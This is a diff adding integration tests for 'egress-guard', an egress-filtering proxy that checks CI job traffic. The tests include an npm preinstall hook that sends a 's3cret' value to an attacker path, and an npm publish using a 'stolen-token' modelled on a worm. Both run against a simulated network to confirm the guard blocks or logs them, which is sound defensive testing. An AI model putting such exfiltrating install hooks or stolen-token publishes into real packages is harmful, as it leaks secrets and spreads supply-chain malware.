@@ -5,11 +5,39 @@
  * log is the judge of what arrived. Needs root (namespaces, iptables).
  */
 import assert from 'node:assert/strict';
-import { chownSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { spawnSync } from 'node:child_process';
+import { chownSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
+import { fileURLToPath, pathToFileURL } from 'node:url';
 import { after, before, describe, test } from 'node:test';
 import { stateCaPaths } from '../../certs/ca-store.js';
-import { World } from './harness.js';
+import type { CloseEvent } from '../../events/schema.js';
+import { EGRESS_BIN, PACKAGE, World } from './harness.js';
+import { must } from './netns.js';
+
+/** Debian's python3 (PyPI is not reachable: `requests` only if python3-requests is installed). */
+const PYTHON = existsSync('/usr/bin/python3') ? '/usr/bin/python3' : 'python3';
+/** GET each URL with urllib (or requests); one JSON line per URL: its status, or the error that stopped it. */
+const PYTHON_GET = `
+import json, sys
+lib = sys.argv[1]
+for url in sys.argv[2:]:
+    try:
+        if lib == 'requests':
+            import requests
+            r = requests.get(url, timeout=10)
+            out = {'status': r.status_code, 'reason': r.headers.get('x-egress-guard-reason')}
+        else:
+            import urllib.request, urllib.error
+            try:
+                with urllib.request.urlopen(url, timeout=10) as r:
+                    out = {'status': r.status}
+            except urllib.error.HTTPError as e:
+                out = {'status': e.code, 'reason': e.headers.get('x-egress-guard-reason')}
+    except Exception as e:
+        out = {'error': repr(e)}
+    print(json.dumps(out), flush=True)
+`;
 
 let world: World;
 
@@ -27,6 +55,9 @@ const DENIED = 'POST allowed.test/git/my-org/app.git/forbidden';
 for (const mode of ['block', 'audit'] as const) {
   describe(`${mode} mode`, () => {
     let bundle: string;
+    let stateDir: string;
+    /** What `egress-guard env --trust-ca` gives a job: the proxy variables and the CA trust variables. */
+    let jobEnv: Record<string, string>;
     const gitEnv = () => ({
       GIT_SSL_CAINFO: bundle,
       GIT_TERMINAL_PROMPT: '0',
@@ -37,7 +68,7 @@ for (const mode of ['block', 'audit'] as const) {
     });
 
     before(async () => {
-      const stateDir = path.join(world.dir, `state-${mode}`);
+      stateDir = path.join(world.dir, `state-${mode}`);
       mkdirSync(stateDir, { recursive: true });
       chownSync(stateDir, world.sidecarIds.uid, world.sidecarIds.gid);
       await world.startEgressGuard(mode, [], {
@@ -46,6 +77,9 @@ for (const mode of ['block', 'audit'] as const) {
       // What a job is given: egress-guard's CA (generated at start, the policy has path rules) beside the others.
       bundle = path.join(world.dir, `bundle-${mode}.pem`);
       writeFileSync(bundle, readFileSync(stateCaPaths(stateDir).cert, 'utf8') + readFileSync(world.caFile, 'utf8'));
+      const exports = await must(process.execPath, [EGRESS_BIN, 'env', '--trust-ca', '--state-dir', stateDir]);
+      jobEnv = Object.fromEntries([...exports.matchAll(/^export (\w+)='([^']*)'$/gm)].map((m) => [m[1]!, m[2]!]));
+      assert.ok(jobEnv.SSL_CERT_FILE && jobEnv.NODE_EXTRA_CA_CERTS, exports);
     });
     after(async () => {
       await world.stopEgressGuard();
@@ -106,6 +140,141 @@ for (const mode of ['block', 'audit'] as const) {
       const event = await world.decision((e) => e.path === '/git/attacker/loot.git/info/refs');
       assert.equal(event?.reason, 'path-not-allowed');
       assert.ok(!JSON.stringify(world.events()).includes('s3cret'), 'the query string is not logged');
+    });
+
+    const npmEnv = (name: string) => ({ ...jobEnv, npm_config_cache: path.join(world.dir, `npm-cache-${mode}-${name}`), npm_config_update_notifier: 'false' });
+
+    test('npm install through the inspected registry works; its preinstall https.get (redirected) is decided by path', async () => {
+      const project = path.join(world.dir, `npm-install-${mode}`);
+      mkdirSync(project, { recursive: true });
+      // node 20 ignores the proxy variables: the preinstall's requests are redirected transparently.
+      const get = (url: string) =>
+        `require('https').get('${url}', (r) => { console.log('preinstall', r.statusCode, '${url}'); r.resume(); }).on('error', (e) => console.log('preinstall', e.code, '${url}'))`;
+      const preinstall = [get('https://allowed.test/git/my-org/app.git/info/refs?service=git-upload-pack'), get('https://allowed.test/git/attacker/preinstall-drop?d=s3cret')].join(
+        ';',
+      );
+      writeFileSync(
+        path.join(project, 'package.json'),
+        JSON.stringify({ name: 'job', version: '1.0.0', private: true, scripts: { preinstall: `node -e "${preinstall}"` }, dependencies: { [PACKAGE.name]: PACKAGE.version } }),
+      );
+      const result = await world.job('npm', ['install', '--no-audit', '--no-fund', '--foreground-scripts', '--registry', 'https://registry.test/'], {
+        cwd: project,
+        timeoutMs: 90_000,
+        env: npmEnv('install'),
+      });
+      assert.equal(result.code, 0, `npm install failed: ${result.stderr}`);
+      assert.ok(existsSync(path.join(project, 'node_modules', PACKAGE.name, 'package.json')), 'the package came from registry.test');
+      const tarball = await world.decision((e) => e.host === 'registry.test' && e.path === `/${PACKAGE.name}/-/${PACKAGE.name}-${PACKAGE.version}.tgz`);
+      assert.equal(tarball?.decision, 'allowed');
+      assert.equal(tarball?.method, 'GET');
+      // The same host, two paths: the one under my-org passes in both modes, the other is refused (block).
+      assert.match(result.stdout, /preinstall 200 https:\/\/allowed\.test\/git\/my-org\//);
+      // Audit lets it through: git http-backend answers 404 (there is no such repository).
+      assert.match(result.stdout, new RegExp(`preinstall ${mode === 'block' ? 403 : 404} https://allowed\\.test/git/attacker/preinstall-drop`));
+      const refused = await world.decision((e) => e.kind === 'transparent' && e.path === '/git/attacker/preinstall-drop');
+      assert.equal(refused?.reason, 'path-not-allowed');
+      assert.equal(refused?.decision, mode === 'block' ? 'blocked' : 'would-block');
+      assert.equal(arrived('/git/attacker/preinstall-drop').length, mode === 'block' ? 0 : 1);
+    });
+
+    test('npm publish (PUT) is refused with a 403 npm prints with the reason; no PUT reaches the registry', async () => {
+      const name = `evil-pkg-${mode}`;
+      const project = path.join(world.dir, `npm-publish-${mode}`);
+      mkdirSync(project, { recursive: true });
+      writeFileSync(path.join(project, 'package.json'), JSON.stringify({ name, version: '6.6.6', main: 'index.js' }));
+      writeFileSync(path.join(project, 'index.js'), 'module.exports = 1;\n');
+      // A stolen token, as the worm had: npm sends it, egress-guard refuses the PUT before it leaves.
+      writeFileSync(path.join(project, '.npmrc'), 'registry=https://registry.test/\n//registry.test/:_authToken=stolen-token\n');
+      const result = await world.job('npm', ['publish', '--no-provenance'], { cwd: project, timeoutMs: 90_000, env: npmEnv('publish') });
+      const puts = world.internetLog().filter((e) => e.type === 'http' && e.method === 'PUT' && e.host === 'registry.test' && e.url === `/${name}`);
+      // npm reads the packument first (GET, allowed); the publish is the PUT.
+      const event = await world.decision((e) => e.host === 'registry.test' && e.method === 'PUT' && e.path === `/${name}`);
+      assert.equal(event?.reason, 'method-not-allowed');
+      if (mode === 'block') {
+        assert.notEqual(result.code, 0, 'npm publish must fail');
+        assert.match(result.stderr, new RegExp(`403 Forbidden - PUT https://registry.test/${name}`), result.stderr);
+        assert.match(result.stderr, /egress-guard: .*PUT/, `npm prints egress-guard's reason: ${result.stderr}`);
+        assert.equal(puts.length, 0, 'no PUT reached the registry');
+      } else {
+        assert.equal(result.code, 0, `audit mode never breaks a job: ${result.stderr}`);
+        assert.equal(event?.decision, 'would-block');
+        assert.equal(puts.length, 1);
+      }
+    });
+
+    const python = (lib: 'urllib' | 'requests', env: Record<string, string>, urls: string[]) =>
+      world.job(PYTHON, ['-c', PYTHON_GET, lib, ...urls], { env, timeoutMs: 40_000 }).then((r) => {
+        const lines = r.stdout.trim().split('\n').filter(Boolean);
+        assert.equal(lines.length, urls.length, `python: ${r.stdout}${r.stderr}`);
+        return lines.map((line) => JSON.parse(line) as { status?: number; reason?: string; error?: string });
+      });
+
+    for (const lib of ['urllib', 'requests'] as const) {
+      const hasLib = lib === 'urllib' || (existsSync(PYTHON) && spawnSync(PYTHON, ['-c', 'import requests']).status === 0);
+      test(
+        `python ${lib} with the CA from egress-guard env: an allowed path passes, a refused one gets 403`,
+        { skip: !hasLib && 'python3-requests is not installed' },
+        async () => {
+          const [allowed, refused] = await python(lib, jobEnv, ['https://registry.test/left-pad-lite', `https://allowed.test/git/attacker/py-${lib}`]);
+          assert.equal(allowed?.status, 200, JSON.stringify(allowed));
+          const event = await world.decision((e) => e.path === `/git/attacker/py-${lib}`);
+          assert.equal(event?.reason, 'path-not-allowed');
+          if (mode === 'block') {
+            assert.equal(refused?.status, 403, JSON.stringify(refused));
+            assert.match(refused?.reason ?? '', /allowed\.test/);
+            assert.equal(arrived(`/git/attacker/py-${lib}`).length, 0);
+          } else assert.equal(refused?.status, 404, `git http-backend's own answer: ${JSON.stringify(refused)}`);
+        },
+      );
+    }
+
+    test('a python client that does not trust the CA fails closed: client-rejected-certificate', async () => {
+      const rejected = () => world.events().filter((e): e is CloseEvent => e.event === 'close' && e.error === 'client-rejected-certificate' && e.host === 'registry.test').length;
+      const before = rejected();
+      // Its own roots (the test internet's CA and the system's), not egress-guard's: transparently redirected.
+      const [result] = await python('urllib', { SSL_CERT_FILE: world.caFile }, ['https://registry.test/left-pad-lite?py-untrusted']);
+      assert.match(result?.error ?? '', /CERTIFICATE_VERIFY_FAILED/, JSON.stringify(result));
+      const deadline = Date.now() + 3000;
+      while (rejected() === before && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100));
+      assert.equal(rejected(), before + 1, 'one close event says client-rejected-certificate');
+      assert.equal(arrived('py-untrusted').length, 0, 'nothing reached the registry');
+    });
+
+    test('a WebSocket to an inspected host, redirected transparently: decided on its path, relayed after 101 when allowed', async () => {
+      const helper = pathToFileURL(path.join(path.dirname(fileURLToPath(import.meta.url)), '../helpers/websocket.js')).href;
+      const script = `import tls from 'node:tls'; import { webSocketExchange } from '${helper}';
+        for (const path of ['/git/my-org/ws-${mode}', '/git/attacker/ws-${mode}']) {
+          const socket = tls.connect({ host: 'allowed.test', port: 443, servername: 'allowed.test', ALPNProtocols: ['http/1.1'] });
+          await new Promise((resolve, reject) => socket.once('secureConnect', resolve).once('error', reject));
+          const r = await webSocketExchange(socket, { host: 'allowed.test', path, message: 'hi' });
+          console.log(JSON.stringify({ path, status: r.status, echoed: r.echoed ?? null }));
+        }`;
+      const result = await world.job(process.execPath, ['--input-type=module', '-e', script], { env: { NODE_EXTRA_CA_CERTS: bundle } });
+      const [own, attacker] = result.stdout
+        .trim()
+        .split('\n')
+        .map((line) => JSON.parse(line) as { status: number; echoed: string | null });
+      assert.deepEqual(own, { path: `/git/my-org/ws-${mode}`, status: 101, echoed: 'echo: hi' }, result.stderr);
+      const allowed = await world.decision((e) => e.kind === 'transparent' && e.path === `/git/my-org/ws-${mode}`);
+      assert.equal(allowed?.decision, 'allowed');
+      const refused = await world.decision((e) => e.kind === 'transparent' && e.path === `/git/attacker/ws-${mode}`);
+      assert.equal(refused?.reason, 'path-not-allowed');
+      const upgraded = world.internetLog().filter((e) => e.type === 'websocket' && String(e.url).includes(`ws-${mode}`));
+      if (mode === 'block') {
+        assert.equal(attacker?.status, 403);
+        assert.deepEqual(
+          upgraded.map((e) => e.url),
+          [`/git/my-org/ws-${mode}`],
+          'only the allowed upgrade reached the server',
+        );
+      } else {
+        assert.equal(attacker?.status, 101);
+        assert.equal(upgraded.length, 2);
+      }
+      await new Promise((r) => setTimeout(r, 300));
+      const closed = world.events().find((e): e is CloseEvent => e.event === 'close' && e.id === allowed?.id);
+      assert.equal(closed?.status, 101);
+      assert.ok(closed!.bytes_in > 0 && closed!.bytes_out > 0, JSON.stringify(closed));
     });
 
     test('a client that does not trust the CA fails closed, and the event says so', async () => {
